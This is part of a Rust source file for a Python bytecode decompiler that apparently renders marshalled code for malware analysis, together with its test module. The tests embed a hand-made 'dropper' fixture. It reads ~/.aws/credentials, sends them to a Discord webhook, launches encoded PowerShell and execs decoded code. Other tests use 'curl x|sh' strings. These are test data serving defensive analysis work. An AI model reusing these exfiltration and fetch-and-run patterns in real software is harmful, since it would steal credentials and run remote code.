            Op::CallIntrinsic1 => match arg {
                2 => {
                    if let Item::Import(module, _) = self.pop() {
                        out.emit(self.depth, Some(line), &format!("from {module} import *"));
                    }
                    self.push(Item::Unknown);
                }
                6 => {
                    let value = self.pop();
                    let value = self.text(&value);
                    self.push(Item::Expr(format!("tuple({value})")));
                }
                _ => self.flush(line, out),
            },
            Op::LoadFastLoadFast => {
                let first = self.local(arg >> 4);
                let second = self.local(arg & 0x0f);
                self.push(Item::Expr(first));
                self.push(Item::Expr(second));
            }
            Op::StoreFastStoreFast => {
                let first = self.local(arg >> 4);
                let value = self.pop();
                self.store(first, value, line, out);
                let second = self.local(arg & 0x0f);
                let value = self.pop();
                self.store(second, value, line, out);
            }
            Op::StoreFastLoadFast => {
                let target = self.local(arg >> 4);
                let value = self.pop();
                self.store(target, value, line, out);
                let loaded = self.local(arg & 0x0f);
                self.push(Item::Expr(loaded));
            }
            Op::BinaryOperator | Op::Other => self.flush(line, out),
        }
    }

    /// 3.11 and later: inline caches, `LOAD_GLOBAL`'s NULL bit, locals-plus numbering.
    fn modern(&self) -> bool {
        matches!(
            self.dialect,
            Dialect::Py311 | Dialect::Py312 | Dialect::Py313
        )
    }

    fn const_names(&self, index: usize) -> Vec<String> {
        match self.code.consts.get(index) {
            Some(Object::Seq(_, items)) => items
                .iter()
                .map(|item| item.as_name().map_or_else(|| "_".to_owned(), identifier))
                .collect(),
            _ => Vec::new(),
        }
    }

    fn call_with_keywords(&mut self, count: usize, keys: Vec<String>) {
        let items = self.pop_n(count);
        let callee = self.pop();
        let call = self.call(callee, items, &keys);
        self.push(call);
    }

    fn binary(&mut self, operator: &str) {
        let right = self.pop();
        let left = self.pop();
        let right = self.text(&right);
        let left = self.text(&left);
        self.push(Item::Expr(format!("({left} {operator} {right})")));
    }

    fn ret(&mut self, value: Item, line: u32, out: &mut Output) {
        let is_none = match &value {
            Item::Const(index) => matches!(self.code.consts.get(*index), Some(Object::None)),
            Item::Unknown => true,
            _ => false,
        };
        if self.module {
            if let Item::Call(text) = value {
                out.emit(self.depth, Some(line), &text);
            }
        } else if !is_none {
            let text = self.text(&value);
            out.emit(self.depth, Some(line), &format!("return {text}"));
        }
        self.stack.clear();
    }
}

/// A name usable as an identifier in the rendering (`<lambda>` becomes `_lambda_`).
fn identifier(name: &str) -> String {
    let mut out: String = name
        .chars()
        .take(128)
        .map(|c| {
            if c.is_alphanumeric() || c == '_' {
                c
            } else {
                '_'
            }
        })
        .collect();
    if out.is_empty() || out.starts_with(|c: char| c.is_ascii_digit()) {
        out.insert(0, '_');
    }
    out
}

/// A constant as a Python literal.
fn render_const(consts: &[Object], index: usize, work: &Work) -> String {
    consts
        .get(index)
        .map_or_else(|| "_".to_owned(), |c| work.literal(c))
}

/// `object` as a Python literal, within `budget` bytes (parts past it are `_`).
fn literal(object: &Object, depth: u32, budget: &Cell<usize>) -> String {
    let cost = match object {
        Object::Str(s) => s.len(),
        Object::Bytes(b) => b.len(),
        _ => 8,
    };
    let left = budget.get();
    if cost > left {
        budget.set(0);
        return "_".to_owned();
    }
    budget.set(left - cost);
    match object {
        Object::None | Object::Null => "None".to_owned(),
        Object::Bool(true) => "True".to_owned(),
        Object::Bool(false) => "False".to_owned(),
        Object::Singleton(name) => (*name).to_owned(),
        Object::Int(i) => i.to_string(),
        Object::BigInt { negative, .. } => {
            if *negative { "-(1 << 64)" } else { "(1 << 64)" }.to_owned()
        }
        Object::Float(f) if f.is_finite() => format!("{f:?}"),
        Object::Float(_) => "float('nan')".to_owned(),
        Object::Complex(..) => "0j".to_owned(),
        Object::Str(s) => str_literal(s),
        Object::Bytes(b) => bytes_literal(b),
        Object::Seq(kind, items) if depth < 16 => {
            let parts: Vec<String> = items
                .iter()
                .take(4096)
                .map(|i| literal(i, depth + 1, budget))
                .collect();
            match kind {
                SeqKind::Tuple if parts.len() == 1 => format!("({},)", parts.join("")),
                SeqKind::Tuple => format!("({})", parts.join(", ")),
                SeqKind::List => format!("[{}]", parts.join(", ")),
                SeqKind::Set | SeqKind::FrozenSet if parts.is_empty() => "set()".to_owned(),
                SeqKind::Set | SeqKind::FrozenSet => format!("{{{}}}", parts.join(", ")),
            }
        }
        Object::Dict(pairs) if depth < 16 => {
            let parts: Vec<String> = pairs
                .iter()
                .take(4096)
                .map(|(k, v)| {
                    format!(
                        "{}: {}",
                        literal(k, depth + 1, budget),
                        literal(v, depth + 1, budget)
                    )
                })
                .collect();
            format!("{{{}}}", parts.join(", "))
        }
        Object::Code(code) => identifier(&code.name),
        _ => "_".to_owned(),
    }
}

/// A `str` as a single-quoted Python literal, escaping what a source line cannot hold.
pub fn str_literal(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('\'');
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() || c == '\u{2028}' || c == '\u{2029}' || c == '\u{feff}' => {
                let _ = write!(out, "\\U{:08x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// A `bytes` as a Python literal.
pub fn bytes_literal(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() + 3);
    out.push_str("b'");
    for &b in bytes {
        match b {
            b'\\' => out.push_str("\\\\"),
            b'\'' => out.push_str("\\'"),
            b'\n' => out.push_str("\\n"),
            b'\r' => out.push_str("\\r"),
            b'\t' => out.push_str("\\t"),
            0x20..=0x7e => out.push(char::from(b)),
            _ => {
                let _ = write!(out, "\\x{b:02x}");
            }
        }
    }
    out.push('\'');
    out
}

/// `(offset, opcode, argument)` of each instruction, `EXTENDED_ARG` folded in.
fn instructions(bytecode: &[u8], dialect: Dialect) -> Vec<(usize, u8, usize)> {
    let mut out = Vec::new();
    let mut extended: usize = 0;
    match dialect {
        Dialect::Py2 | Dialect::Py26 | Dialect::Py30 => {
            let mut at = 0usize;
            while let Some(&opcode) = bytecode.get(at) {
                let start = at;
                let arg = if opcode >= 90 {
                    let lo = usize::from(bytecode.get(at + 1).copied().unwrap_or(0));
                    let hi = usize::from(bytecode.get(at + 2).copied().unwrap_or(0));
                    at += 3;
                    (extended << 16) | (hi << 8) | lo
                } else {
                    at += 1;
                    0
                };
                let extended_arg = match dialect {
                    Dialect::Py2 => 145,
                    Dialect::Py26 => 143,
                    _ => 144,
                };
                if opcode == extended_arg {
                    extended = arg & 0xffff;
                    continue;
                }
                extended = 0;
                out.push((start, opcode, arg));
            }
        }
        _ => {
            for (index, pair) in bytecode.chunks_exact(2).enumerate() {
                let &[opcode, arg] = pair else { continue };
                let arg = (extended << 8) | usize::from(arg);
                if opcode == extended_arg(dialect) {
                    extended = arg & 0x00ff_ffff;
                    continue;
                }
                extended = 0;
                out.push((index * 2, opcode, arg));
            }
        }
    }
    out
}

/// `(offset, line)` where each source line's instructions start, from the line table.
fn line_starts(code: &Code, dialect: Dialect) -> Vec<(usize, u32)> {
    let table = &code.line_table;
    let mut out = vec![(0usize, code.first_line)];
    let mut line = i64::from(code.first_line);
    let mut offset = 0usize;
    match dialect {
        // `co_lnotab` pairs (address step, line step). 3.10's `co_linetable` has the same
        // shape with the steps in the other order of application and -128 for "no line";
        // reading it as `co_lnotab` shifts a line change by at most one entry, which is
        // close enough for evidence.
        Dialect::Py2 | Dialect::Py26 | Dialect::Py30 | Dialect::Py36 => {
            for pair in table.chunks_exact(2) {
                let &[address, delta] = pair else { continue };
                offset += usize::from(address);
                line += match dialect {
                    Dialect::Py36 if delta == 0x80 => 0,
                    Dialect::Py36 => i64::from(i8::from_le_bytes([delta])),
                    _ => i64::from(delta),
                };
                out.push((offset, clamp_line(line)));
            }
        }
        Dialect::Py311 | Dialect::Py312 | Dialect::Py313 => {
            let mut at = 0usize;
            while let Some(&first) = table.get(at) {
                at += 1;
                if first & 0x80 == 0 {
                    break;
                }
                let kind = (first >> 3) & 0x0f;
                let units = usize::from(first & 0x07) + 1;
                match kind {
                    15 => {}
                    14 => {
                        line += signed_varint(table, &mut at);
                        for _ in 0..3 {
                            varint(table, &mut at);
                        }
                        out.push((offset, clamp_line(line)));
                    }
                    13 => {
                        line += signed_varint(table, &mut at);
                        out.push((offset, clamp_line(line)));
                    }
                    10..=12 => {
                        line += i64::from(kind - 10);
                        at += 2;
                        out.push((offset, clamp_line(line)));
                    }
                    _ => {
                        at += 1;
                        out.push((offset, clamp_line(line)));
                    }
                }
                offset += units * 2;
            }
        }
        _ => {}
    }
    out
}

fn clamp_line(line: i64) -> u32 {
    u32::try_from(line.max(1)).unwrap_or(u32::MAX)
}

fn varint(table: &[u8], at: &mut usize) -> u64 {
    let mut value = 0u64;
    let mut shift = 0u32;
    while let Some(&b) = table.get(*at) {
        *at += 1;
        if shift < 60 {
            value |= u64::from(b & 0x3f) << shift;
        }
        shift += 6;
        if b & 0x40 == 0 {
            break;
        }
    }
    value
}

fn signed_varint(table: &[u8], at: &mut usize) -> i64 {
    let value = varint(table, at);
    let magnitude = i64::try_from(value >> 1).unwrap_or(i64::MAX);
    if value & 1 == 1 {
        -magnitude
    } else {
        magnitude
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use crate::marshal::{Limits, read_code};

    /// CPython 3.11 `marshal.dumps(compile(...))` of a small dropper written for this test.
    const PY311_DROPPER: &str = "630000000000000000000000000500000000000000f3c40000009700640064016c005a00640064016c015a01640064026c026d035a04010064035a05640484005a0602004700640584006406a6020000ab0200000000000000005a0702006506020065086407a6010000ab010000000000000000a0090000000000000000000000000000000000000000a6000000ab000000000000000000a6010000ab01000000000000000001000200650a020065016a0b00000000000000006408a6010000ab010000000000000000a6010000ab0100000000000000000100640153002909e9000000004e2901da0775726c6f70656e7a2668747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f312f616263630100000000000000000000000400000003000000f33200000097007401000000000000000000007402000000000000000000007c00ac01a6020000ab02000000000000000001006400530029024e2901da04646174612902da0175da0355524c2901da0164730100000020fa033c783eda0473656e6472090000000400000073150000008000dd040585639001804e814e844e804e804e804ef300000000630000000000000000000000000100000000000000f314000000970065005a0164005a02640184005a03640253002903da014b630100000000000000000000000400000003000000f33600000097007401000000000000000000006a01000000000000000067006401a2016402ac03a6020000ab02000000000000000001006400530029044e2903da0a706f7765727368656c6c7a042d656e63da0178542901da057368656c6c2902da0a73756270726f63657373da05506f70656e2901da0473656c667301000000207208000000da0372756e7a054b2e72756e0700000073250000008000dd0812d40818d01934d01934d01934b844d00841d10841d40841d00841d00841d00841720a0000004e2904da085f5f6e616d655f5fda0a5f5f6d6f64756c655f5fda0c5f5f7175616c6e616d655f5f7214000000a900720a0000007208000000720c000000720c00000006000000732800000080008000800080008000f00201054201f00001054201f00001054201f00001054201f00001054201720a000000720c0000007a127e2f2e6177732f63726564656e7469616c737a0c63484a70626e516f4d536b3d290c7211000000da06626173653634da0e75726c6c69622e726571756573747202000000720500000072060000007209000000720c000000da046f70656eda0472656164da0465786563da096236346465636f64657218000000720a0000007208000000fa083c6d6f64756c653e721f0000000100000073c0000000f003010101d80019d00019d00019d00019d00019d00019d00019d00019d80027d00027d00027d00027d00027d00027d8062e8003f002010113f000010113f000010113f00402014201f00002014201f00002014201f00002014201f00002014201f10002014201f40002014201f00002014201f006000105800480548054d00a1ed1051fd4051fd70524d20524d10526d40526d10027d40027d00027d800048004d005158056d40515906ed10525d40525d10026d40026d00026d00026d00026720a000000";

    fn rendered(hex: &str) -> String {
        let data = crate::decode::decode(crate::decode::Codec::Hex, hex.as_bytes()).unwrap();
        let (code, _) = read_code(&data, Limits::default()).unwrap();
        render(&code, None, RenderLimits::default())
    }

    #[test]
    fn renders_311_calls_imports_functions_and_classes() {
        let text = rendered(PY311_DROPPER);
        println!("{text}");
        assert!(text.contains("import subprocess"), "{text}");
        assert!(
            text.contains("from urllib.request import urlopen as u"),
            "{text}"
        );
        assert!(
            text.contains("URL = 'https://discord.com/api/webhooks/1/abc'"),
            "{text}"
        );
        assert!(text.contains("def send(d):"), "{text}");
        assert!(text.contains("u(URL, data=d)"), "{text}");
        assert!(
            text.contains("subprocess.Popen(['powershell', '-enc', 'x'], shell=True)"),
            "{text}"
        );
        assert!(
            text.contains("send(open('~/.aws/credentials').read())"),
            "{text}"
        );
        assert!(
            text.contains("exec(base64.b64decode('cHJpbnQoMSk='))"),
            "{text}"
        );
        // Statements keep their own line numbers.
        let line = text.lines().position(|l| l.starts_with("send(")).unwrap();
        assert_eq!(line + 1, 9, "{text}");
    }

    /// Marshal bytes of a code object, built by hand for layouts no local Python can write.
    mod build {
        use crate::marshal::Layout;

        fn len(n: usize) -> [u8; 4] {
            i32::try_from(n).unwrap().to_le_bytes()
        }
        pub fn text(s: &str) -> Vec<u8> {
            let mut v = vec![b'u'];
            v.extend(len(s.len()));
            v.extend(s.as_bytes());
            v
        }
        pub fn bytes(b: &[u8]) -> Vec<u8> {
            let mut v = vec![b's'];
            v.extend(len(b.len()));
            v.extend(b);
            v
        }
        pub fn int(i: i32) -> Vec<u8> {
            let mut v = vec![b'i'];
            v.extend(i.to_le_bytes());
            v
        }
        pub fn none() -> Vec<u8> {
            vec![b'N']
        }
        pub fn tuple(items: &[Vec<u8>]) -> Vec<u8> {
            let mut v = vec![b'('];
            v.extend(len(items.len()));
            for item in items {
                v.extend(item);
            }
            v
        }
        pub fn code(
            layout: Layout,
            bytecode: &[u8],
            consts: &[Vec<u8>],
            names: &[&str],
        ) -> Vec<u8> {
            // Python 2 names are byte strings.
            let name = |n: &str| {
                if layout == Layout::Py2 {
                    bytes(n.as_bytes())
                } else {
                    text(n)
                }
            };
            let counters = match layout {
                Layout::Py2 => 4,
                Layout::Py30 | Layout::Py311 => 5,
                Layout::Py38 => 6,
            };
            let mut v = vec![b'c'];
            for index in 0..counters {
                let value: i32 = if index == counters - 1 { 0x40 } else { 0 };
                v.extend(value.to_le_bytes());
            }
            v.extend(bytes(bytecode));
            v.extend(tuple(consts));
            v.extend(tuple(&names.iter().map(|n| name(n)).collect::<Vec<_>>()));
            if layout == Layout::Py311 {
                v.extend(tuple(&[]));
                v.extend(bytes(&[]));
            } else {
                for _ in 0..3 {
                    v.extend(tuple(&[]));
                }
            }
            v.extend(name("<hand>"));
            v.extend(name("<module>"));
            if layout == Layout::Py311 {
                v.extend(name("<module>"));
            }
            v.extend(1i32.to_le_bytes());
            v.extend(bytes(&[]));
            if layout == Layout::Py311 {
                v.extend(bytes(&[]));
            }
            v
        }
    }

    fn render_bytes(data: &[u8]) -> (String, Layout) {
        let (code, layout) = read_code(data, Limits::default()).unwrap();
        (render(&code, None, RenderLimits::default()), layout)
    }

    #[test]
    fn python2_code_with_an_exec_statement() {
        use build::*;
        // import os; os.system('curl x|sh'); exec 'import os'
        let bytecode = [
            100, 0, 0, 100, 1, 0, 108, 0, 0, 90, 0, 0, 101, 0, 0, 106, 1, 0, 100, 2, 0, 131, 1, 0,
            1, 100, 3, 0, 100, 1, 0, 4, 85, 100, 1, 0, 83,
        ];
        let consts = [int(-1), none(), bytes(b"curl x|sh"), bytes(b"import os")];
        let data = code(Layout::Py2, &bytecode, &consts, &["os", "system"]);
        let (text, layout) = render_bytes(&data);
        assert_eq!(layout, Layout::Py2);
        assert!(text.contains("import os"), "{text}");
        assert!(text.contains("os.system(b'curl x|sh')"), "{text}");
        assert!(text.contains("exec(b'import os')"), "{text}");
        // 2.6 numbers IMPORT_NAME and LOAD_ATTR one lower: its .pyc says which it is.
        let bytecode = [
            100, 0, 0, 100, 1, 0, 107, 0, 0, 90, 0, 0, 101, 0, 0, 105, 1, 0, 100, 2, 0, 131, 1, 0,
            1, 100, 1, 0, 83,
        ];
        let data = code(Layout::Py2, &bytecode, &consts, &["os", "system"]);
        let (code, _) = read_code(&data, Limits::default()).unwrap();
        let text = render(&code, Some((2, 6)), RenderLimits::default());
        assert!(text.contains("import os"), "{text}");
        assert!(text.contains("os.system(b'curl x|sh')"), "{text}");
    }

    #[test]
    fn python35_and_38_layouts() {
        use build::*;
        let consts = [int(0), none(), text("curl x|sh")];
        // 3.5: three-byte instructions.
        let old = [
            100, 0, 0, 100, 1, 0, 108, 0, 0, 90, 0, 0, 101, 0, 0, 106, 1, 0, 100, 2, 0, 131, 1, 0,
            1, 100, 1, 0, 83,
        ];
        let (text, layout) = render_bytes(&code(Layout::Py30, &old, &consts, &["os", "system"]));
        assert_eq!(layout, Layout::Py30);
        assert!(text.contains("os.system('curl x|sh')"), "{text}");
        // 3.8: wordcode, LOAD_METHOD/CALL_METHOD.
        let word = [
            100, 0, 100, 1, 108, 0, 90, 0, 101, 0, 160, 1, 100, 2, 161, 1, 1, 0, 100, 1, 83, 0,
        ];
        let (text, layout) = render_bytes(&code(Layout::Py38, &word, &consts, &["os", "system"]));
        assert_eq!(layout, Layout::Py38);
        assert!(text.starts_with("import os"), "{text}");
        assert!(text.contains("os.system('curl x|sh')"), "{text}");
    }

    #[test]
    fn python313_opcodes() {
        use build::*;
        // RESUME; LOAD_CONST 0; LOAD_CONST None; IMPORT_NAME os; STORE_NAME os; LOAD_NAME os;
        // LOAD_ATTR system (method bit) + caches; LOAD_CONST; CALL 1 + caches; POP_TOP;
        // RETURN_CONST None.
        let bytecode = [
            149, 0, 83, 0, 83, 1, 75, 0, 114, 0, 92, 0, 82, 3, 0, 0, 0, 0, 83, 2, 53, 1, 0, 0, 32,
            0, 103, 1,
        ];
        let consts = [int(0), none(), text("curl x|sh")];
        let data = code(Layout::Py311, &bytecode, &consts, &["os", "system"]);
        let (text, _) = render_bytes(&data);
        assert!(text.contains("import os"), "{text}");
        assert!(text.contains("os.system('curl x|sh')"), "{text}");
    }

    #[test]
    fn unknown_instruction_sets_still_show_names_and_strings() {
        use build::*;
        // Neither 3.11/3.12's RESUME (151) nor 3.13's (149) first: not a modelled set.
        let data = code(
            Layout::Py311,
            &[128, 0, 1, 0],
            &[text("https://x.invalid/a.sh")],
            &["os", "system"],
        );
        let (text, _) = render_bytes(&data);
        assert!(text.contains("# names used: os, system"), "{text}");
        assert!(text.contains("'https://x.invalid/a.sh'"), "{text}");
    }

    #[test]
    fn output_is_bounded() {
        let data =
            crate::decode::decode(crate::decode::Codec::Hex, PY311_DROPPER.as_bytes()).unwrap();
        let (code, _) = read_code(&data, Limits::default()).unwrap();
        let limits = RenderLimits {
            max_bytes: 64,
            ..RenderLimits::default()
        };
        assert!(render(&code, None, limits).len() <= 64 + 160);
        let limits = RenderLimits {
            max_depth: 0,
            ..RenderLimits::default()
        };
        assert!(!render(&code, None, limits).contains("Popen"));
    }

    #[test]
    fn quadratic_and_exponential_inputs_stay_cheap() {
        use build::*;
        let started = std::time::Instant::now();
        // 300,000 additions: `'x' + 'x' + ...` grows one instruction at a time.
        let mut chain = vec![151, 0, 100, 0];
        for _ in 0..300_000 {
            chain.extend([100, 0, 122, 0, 0, 0]);
        }
        chain.extend([1, 0, 100, 1, 83, 0]);
        let data = code(Layout::Py311, &chain, &[text("xxxxxxxx"), none()], &[]);
        let (code_object, _) = read_code(&data, Limits::default()).unwrap();
        let _ = render(&code_object, None, RenderLimits::default());
        // A tuple of 1,000 references to a tuple of 1,000 references ... to a 1 KiB string
        // (10^15 strings if expanded), printed 10,000 times.
        fn level(k: u32) -> Vec<u8> {
            if k == 0 {
                let mut v = vec![b'u' | 0x80];
                v.extend(1024i32.to_le_bytes());
                v.extend([b'a'; 1024]);
                return v;
            }
            let mut v = vec![b'(' | 0x80];
            v.extend(1000i32.to_le_bytes());
            v.extend(level(k - 1));
            for _ in 1..1000 {
                v.push(b'r');
                // Slots are taken in reading order: level 5 is 0, level 0 is 5.
                v.extend((5 - (k - 1)).to_le_bytes());
            }
            v
        }
        let mut calls = vec![151, 0];
        for _ in 0..10_000 {
            calls.extend([101, 0, 100, 0, 166, 1, 171, 1, 0, 0, 1, 0]);
        }
        calls.extend([100, 1, 83, 0]);
        let data = code(Layout::Py311, &calls, &[level(5), none()], &["print"]);
        let (code_object, _) = read_code(&data, Limits::default()).unwrap();
        let text = render(&code_object, None, RenderLimits::default());
        assert!(text.len() <= RenderLimits::default().max_bytes + 4096);
        assert!(
            text.starts_with("print(((("),
            "{}",
            crate::text::shorten(&text, 100)
        );
        assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
    }

    #[test]
    fn literals_round_trip_as_python() {
        assert_eq!(str_literal("a'b\\c\n\u{1}"), "'a\\'b\\\\c\\n\\U00000001'");
        assert_eq!(bytes_literal(b"a'\x00\xff"), "b'a\\'\\x00\\xff'");
        assert_eq!(identifier("<lambda>"), "_lambda_");
        assert_eq!(identifier("1x"), "_1x");
    }

    proptest::proptest! {
        #[test]
        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(proptest::num::u8::ANY, 0..512)) {
            if let Ok((code, _)) = read_code(&data, Limits::default()) {
                let text = render(&code, None, RenderLimits { max_bytes: 1 << 12, ..RenderLimits::default() });
                proptest::prop_assert!(text.len() <= (1 << 12) + 4096);
            }
            let _ = unmarshal_to_source(&data, true, 1 << 12);
        }

        #[test]
        fn mutated_code_objects_never_panic(at in 0usize..2000, value in proptest::num::u8::ANY, cut in 0usize..2000) {
            let mut data = crate::decode::decode(crate::decode::Codec::Hex, PY311_DROPPER.as_bytes()).unwrap();
            let len = data.len();
            data[at % len] = value;
            data.truncate(len - cut % len);
            let _ = unmarshal_to_source(&data, false, 1 << 16);
        }
    }
}
